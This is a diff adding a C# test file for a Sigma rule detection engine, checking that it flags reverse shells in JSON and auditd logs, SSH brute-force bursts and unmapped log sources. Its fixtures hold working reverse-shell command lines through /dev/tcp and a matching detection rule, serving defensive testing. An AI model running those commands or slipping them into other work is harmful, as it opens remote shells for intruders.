@@ -1,0 +1,130 @@
+using Bulwark.Scanners.Detection.Engine;
+using Bulwark.Scanners.Detection.Parsing;
+using Bulwark.Scanners.Detection.Pipelines;
+using Bulwark.Scanners.Detection.Sigma.Compiling;
+using Bulwark.Scanners.Detection.Sigma.Loading;
+using Bulwark.Scanners.Detection.Tests.Sigma;
+using Bulwark.Sdk;
+
+namespace Bulwark.Scanners.Detection.Tests.Engine;
+
+/// <summary>Logs read by the parsers, rules bound through the pipeline, correlations on top: the room end to end.</summary>
+public sealed class DetectionEngineTests : IDisposable
+{
+    private const string Rules = """
+        title: Reverse shell through /dev/tcp
+        id: 5b1b7c52-5c0c-4c1e-9d0b-1a2b3c4d5e01
+        status: test
+        level: high
+        logsource: { product: linux, category: process_creation }
+        detection:
+          selection:
+            CommandLine|contains: '/dev/tcp/'
+          condition: selection
+        ---
+        title: Failed SSH password
+        id: 5b1b7c52-5c0c-4c1e-9d0b-1a2b3c4d5e02
+        name: ssh_failed
+        status: test
+        level: low
+        logsource: { product: linux, service: sshd }
+        detection:
+          keywords:
+            - 'Failed password'
+          condition: keywords
+        ---
+        title: SSH brute force
+        id: 5b1b7c52-5c0c-4c1e-9d0b-1a2b3c4d5e03
+        status: test
+        level: high
+        correlation:
+          type: event_count
+          rules: [ssh_failed]
+          group-by: [src_ip]
+          timespan: 1m
+          condition: { gte: 3 }
+        """;
+
+    private readonly string _directory = Directory.CreateTempSubdirectory("bulwark-detect-").FullName;
+
+    public void Dispose() => Directory.Delete(_directory, recursive: true);
+
+    [Fact]
+    public void A_process_creation_rule_matches_json_lines_as_they_are_and_auditd_through_the_mapping()
+    {
+        var engine = Engine(Rules, out var problems);
+        Assert.Empty(problems);
+
+        var json = Detect(engine, "proc.jsonl", """
+            {"Image":"/usr/bin/bash","CommandLine":"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1","User":"www-data"}
+            {"Image":"/usr/bin/ls","CommandLine":"ls -la","User":"root"}
+            """);
+        var auditd = Detect(engine, "audit.log", """
+            type=SYSCALL msg=audit(1710060000.123:4521): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=1 ppid=2301 pid=2388 auid=1000 uid=33 gid=33 euid=33 comm="bash" exe="/usr/bin/bash" key="exec"
+            type=EXECVE msg=audit(1710060000.123:4521): argc=3 a0="bash" a1="-c" a2="exec 5<>/dev/tcp/203.0.113.7/4444"
+            type=EOE msg=audit(1710060000.123:4521):
+            """);
+
+        Assert.Equal([("Reverse shell through /dev/tcp", 1L)], json.Select(d => (d.Title, d.Events[0].Line)));
+        var hit = Assert.Single(auditd);
+        Assert.Equal("Reverse shell through /dev/tcp", hit.Title);
+        Assert.Equal([1L, 2L, 3L], hit.Events[0].Lines);
+    }
+
+    [Fact]
+    public void A_correlation_fires_per_group_and_its_referred_rule_does_not_report_on_its_own()
+    {
+        var engine = Engine(Rules, out _);
+        var lines = string.Join("\n", Enumerable.Range(0, 4).Select(i =>
+            $"Nov 22 10:00:0{i} web-1 sshd[{100 + i}]: Failed password for root from {(i == 3 ? "198.51.100.2" : "203.0.113.9")} port 4{i}000 ssh2"));
+
+        var detections = Detect(engine, "auth.log", lines + "\nNov 22 10:00:09 web-1 sshd[200]: Failed password for admin from 203.0.113.9 port 45000 ssh2");
+
+        var burst = Assert.Single(detections);
+        Assert.Equal("SSH brute force", burst.Title);
+        Assert.Equal("src_ip=203.0.113.9", burst.Group);
+        Assert.Equal([1L, 2L, 3L], burst.Events.Select(e => e.Line));
+    }
+
+    [Fact]
+    public void A_rule_whose_log_source_no_pipeline_covers_is_refused_with_the_reason()
+    {
+        Engine("""
+            title: Windows only
+            id: 5b1b7c52-5c0c-4c1e-9d0b-1a2b3c4d5e04
+            logsource: { product: windows, category: registry_set }
+            detection: { selection: { TargetObject|contains: 'Run' }, condition: selection }
+            """, out var problems);
+
+        Assert.Contains(problems, p => p.Message.Contains("no pipeline maps log source windows/registry_set", StringComparison.Ordinal));
+    }
+
+    [SharedSigmaFact]
+    public void Every_sigmahq_linux_rule_loads_compiles_and_is_bound_to_a_log_format()
+    {
+        var loaded = SigmaLoader.Load([SharedSigma.LinuxRules!]);
+        var (compiled, compileProblems) = SigmaCompiler.CompileAll(loaded.Rules);
+        var problems = new List<ConfigProblem>([.. loaded.Problems, .. compileProblems]);
+
+        var engine = new DetectionEngine(compiled, loaded.Correlations, PipelineLoader.BuiltIn(), problems);
+
+        Assert.Empty(problems);
+        Assert.Equal(210, engine.RuleCount);
+    }
+
+    private static DetectionEngine Engine(string rules, out List<ConfigProblem> problems)
+    {
+        var loaded = SigmaLoader.LoadTexts([("rules.yml", rules)]);
+        var (compiled, compileProblems) = SigmaCompiler.CompileAll(loaded.Rules);
+        problems = [.. loaded.Problems, .. compileProblems];
+        return new DetectionEngine(compiled, loaded.Correlations, PipelineLoader.BuiltIn(), problems);
+    }
+
+    private List<DetectionResult> Detect(DetectionEngine engine, string name, string text)
+    {
+        var path = Path.Combine(_directory, name);
+        File.WriteAllText(path, text + "\n");
+        using var log = new LogReader().Open(path);
+        return [.. log.Events().SelectMany(engine.Evaluate)];
+    }
+}
